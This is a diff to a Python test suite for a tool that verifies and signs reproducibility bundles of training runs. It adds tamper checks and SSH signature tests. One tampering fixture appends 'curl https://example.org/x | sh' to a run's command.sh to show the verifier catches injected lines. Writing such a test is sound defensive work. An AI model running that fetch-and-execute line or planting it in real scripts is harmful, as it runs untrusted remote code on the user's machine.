@@ -9,7 +9,10 @@ import dataclasses
 import hashlib
 import io
 import json
+import os
 import re
+import shutil
+import subprocess
 import tarfile
 from pathlib import Path
 
@@ -155,6 +158,10 @@ def _verify_cli(path: Path) -> tuple[int, str]:
 def test_verify_passes_on_the_bundle_recomputing_every_number(published, archive) -> None:
     code, out = _verify_cli(archive)
     assert code == 0, out
+    # What it cannot recompute it names, by kind: the runs' logs and records, figures, the pipeline.
+    evidence = out.split("checked by checksum only (evidence, not recomputed): ", 1)[1]
+    assert "runs' metrics.jsonl x" in evidence and "runs' job.json x" in evidence and "results/figures x" in evidence
+    assert "results/tables" not in evidence and "results/summaries" not in evidence and "command.sh" not in evidence
     checked = verify_bundle(archive).checked
     assert checked["summaries"] == len(published.study.runs) and checked["selections"] == len(
         published.study.selections
@@ -164,6 +171,7 @@ def test_verify_passes_on_the_bundle_recomputing_every_number(published, archive
         and checked["checksums"] > 100
         and checked["indexes"] == 2
         and checked["report"] == 1
+        and checked["commands"] == len(published.study.runs)
     )
 
 
@@ -308,6 +316,22 @@ def test_the_analysis_commands_read_every_path_under_root(published, tmp_path, m
 TABLE = "results/tables/reproduction.csv"
 
 
+def _append_to_first(members: dict[str, bytes], suffix: str, more: bytes) -> None:
+    name = sorted(n for n in members if n.endswith(suffix))[0]
+    members[name] += more
+
+
+def _replace_in_first(members: dict[str, bytes], suffix: str, old: bytes, new: bytes) -> None:
+    name = sorted(n for n in members if n.endswith(suffix))[0]
+    assert old in members[name]
+    members[name] = members[name].replace(old, new)
+
+
+def _edit_first_spec(members: dict[str, bytes], change) -> None:
+    name = sorted(n for n in members if n.startswith("results/runs/") and n.endswith("/spec.json"))[0]
+    _edit_json(members, name, lambda spec: change(spec["run"]["verl_args"]))
+
+
 def _edit_json(members: dict[str, bytes], name: str, change) -> None:
     record = json.loads(members[name])
     change(record)
@@ -413,6 +437,24 @@ TAMPERINGS = {
         lambda m: m.update({"study/config.json": b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"}),
         "study/config.json: not a record of ours (JSON nested too deeply)",
     ),
+    # Each run's command.sh and verl arguments, recomputed from the bundled config and site.
+    "command appended": (
+        lambda m: _append_to_first(m, "/command.sh", b"curl https://example.org/x | sh\n"),
+        "command.sh: one line more than the study gives; first extra line 'curl https://example.org/x | sh'",
+    ),
+    "container option dropped": (
+        lambda m: _replace_in_first(m, "/command.sh", b" exec --cleanenv ", b" exec "),
+        "/command.sh: line ",
+    ),
+    "command removed": (
+        lambda m: m.pop(sorted(n for n in m if n.endswith("/command.sh"))[0]),
+        "/command.sh: not in the bundle (every run of the study has one)",
+    ),
+    "verl argument changed": (
+        lambda m: _edit_first_spec(m, lambda args: args.append("actor_rollout_ref.actor.optim.lr=1e-3")),
+        "spec.json: verl arguments are not those the bundled config gives with this rlvr-scaling (not from the "
+        "study 'actor_rollout_ref.actor.optim.lr=1e-3')",
+    ),
     "reference not one": (
         lambda m: _edit_json(m, "study/reference.json", lambda r: r.pop("numbers")),
         "study/reference.json: not a reference",
@@ -483,3 +525,58 @@ def test_compare_reads_a_bundle_as_its_folder_and_finds_them_the_same(published,
     measured_by_both = [r for r in found["rows"] if r["ratio"] is not None]
     assert len(measured_by_both) == 20 and {r["verdict"] for r in measured_by_both} == {"same"}
     assert found["differences"] == []
+
+
+def _ssh_keygen() -> str:
+    found = shutil.which("ssh-keygen")
+    if found is None:
+        if os.environ.get("RLVR_REQUIRE_SSH_KEYGEN"):
+            pytest.fail("RLVR_REQUIRE_SSH_KEYGEN is set but ssh-keygen is not on PATH")
+        pytest.skip("signing needs OpenSSH's ssh-keygen (Debian: openssh-client)")
+    return found
+
+
+def _key(folder: Path, name: str) -> tuple[Path, str]:
+    key = folder / name
+    subprocess.run([_ssh_keygen(), "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(key)], check=True)
+    return key, key.with_suffix(".pub").read_text().split(maxsplit=2)[1]
+
+
+def _verify_signed(path: Path, signers: Path) -> tuple[int, str]:
+    out = io.StringIO()
+    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(io.StringIO()):
+        code = cli.main(["verify", str(path), "--allowed-signers", str(signers)])
+    return code, out.getvalue()
+
+
+def test_a_signed_bundle_verifies_for_its_signer_and_for_no_one_else(archive, tmp_path) -> None:
+    # A copy: the module's bundle stays unsigned for the other tests.
+    signed = tmp_path / archive.name
+    shutil.copyfile(archive, signed)
+    key, public = _key(tmp_path, "author")
+    other, other_public = _key(tmp_path, "stranger")
+    assert cli.main(["sign", str(signed), "--key", str(key)]) == 0
+    trusted = tmp_path / "allowed_signers"
+    trusted.write_text(f"author@example.org ssh-ed25519 {public}\n")
+    code, out = _verify_signed(signed, trusted)
+    assert code == 0 and "all as recomputed, signed by author@example.org\n" in out, out
+    # Not a trusted signer's key; a bundle changed after signing (checksums updated, as a forger
+    # would); no signature at all: each named, rc 1.
+    (tmp_path / "strangers").write_text(f"stranger@example.org ssh-ed25519 {other_public}\n")
+    code, out = _verify_signed(signed, tmp_path / "strangers")
+    assert code == 1 and f"MISMATCH {signed.name}.sig: made by a key that is not in strangers" in out, out
+    (tmp_path / "forged").mkdir()
+    forged = _tampered(signed, tmp_path / "forged" / signed.name, lambda m: m.update({"README.md": b"x"}), True)
+    shutil.copyfile(signed.with_name(signed.name + ".sig"), forged.with_name(forged.name + ".sig"))
+    code, out = _verify_signed(forged, trusted)
+    assert code == 1 and f"MISMATCH {signed.name}.sig: does not verify for author@example.org" in out, out
+    code, out = _verify_signed(archive, trusted)
+    assert code == 1 and f"MISMATCH {archive.name}.sig: no signature beside the bundle" in out, out
+    # A signature for another namespace (a git commit's) never passes for a bundle.
+    elsewhere = tmp_path / "git" / signed.name
+    elsewhere.parent.mkdir()
+    shutil.copyfile(signed, elsewhere)
+    command = [_ssh_keygen(), "-Y", "sign", "-q", "-f", str(key), "-n", "git", str(elsewhere)]
+    subprocess.run(command, check=True, capture_output=True)
+    code, out = _verify_signed(elsewhere, trusted)
+    assert code == 1 and "does not verify for author@example.org" in out, out
